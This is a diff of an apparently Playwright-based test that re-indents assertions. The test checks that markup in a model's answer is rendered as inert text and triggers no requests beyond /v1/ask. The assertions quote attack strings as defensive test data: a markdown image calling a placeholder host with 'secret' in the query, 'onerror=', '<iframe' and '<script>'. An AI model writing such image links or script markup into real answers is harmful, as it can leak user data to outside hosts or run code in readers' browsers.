@@ -68,10 +68,10 @@ def test_t42_t43_markup_that_a_model_writes_is_text_and_asks_for_nothing(serve, 
             exchange = ask(page, "Explain from where the ferry leaves.")
             said = exchange.locator(".answer-text").inner_text()
             page.wait_for_timeout(300)
-    assert model.calls
-    for written in ("![pier](http://192.0.2.1/p.png?q=secret)", "onerror=", "<iframe", "<script>", "/bare"):
-        assert written in said
-    inside = exchange.locator(".answer-text")
-    assert inside.locator("a, img, iframe, script, style, object, embed, video, form").count() == 0
-    assert page.evaluate("document.body.dataset.ran") is None
-    assert set(asked) <= {"/v1/ask"}
+            assert model.calls
+            for written in ("![pier](http://192.0.2.1/p.png?q=secret)", "onerror=", "<iframe", "<script>", "/bare"):
+                assert written in said
+            inside = exchange.locator(".answer-text")
+            assert inside.locator("a, img, iframe, script, style, object, embed, video, form").count() == 0
+            assert page.evaluate("document.body.dataset.ran") is None
+            assert set(asked) <= {"/v1/ask"}
